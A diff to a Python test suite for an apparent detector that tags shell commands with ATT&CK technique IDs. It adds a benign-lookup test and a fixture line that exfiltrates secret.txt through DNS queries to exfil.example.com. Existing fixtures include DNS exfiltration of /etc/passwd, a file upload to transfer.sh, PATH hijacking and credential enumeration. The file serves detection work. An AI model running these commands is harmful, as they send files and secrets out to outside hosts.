@@ -132,6 +132,7 @@ MORE_SENSITIVE = [
     ("export PATH=/tmp:$PATH", "T1574.007"),
     ("curl -F f=@/tmp/x https://transfer.sh", "T1567"),
     ("dig $(cat /etc/passwd | base64).x.example", "T1048.003"),
+    ("for x in $(xxd -p secret.txt); do dig $x.exfil.example.com; done", "T1048.003"),
     ("openssl s_client -quiet -connect 203.0.113.1:443", "T1573"),
     ("aws sts get-caller-identity", "T1552.001"),
     ("kubectl get secrets -A", "T1552.007"),
@@ -208,6 +209,11 @@ def test_another_process_environment_is_credential_access_and_the_readers_own_is
     assert _techniques("cat /proc/1/environ")["T1552"] >= 0.25
     assert _techniques("strings /proc/*/environ")["T1552"] >= 0.45
     assert "T1552" not in _techniques("strings /proc/self/environ")
+
+
+def test_a_lookup_of_a_host_held_in_a_variable_sends_no_data() -> None:
+    assert "T1048.003" not in _techniques("for h in $HOSTS; do dig +short $h; done")
+    assert "T1048.003" not in _techniques("host example.com")
 
 
 def test_one_address_or_a_loop_over_hosts_by_name_is_no_sweep() -> None:
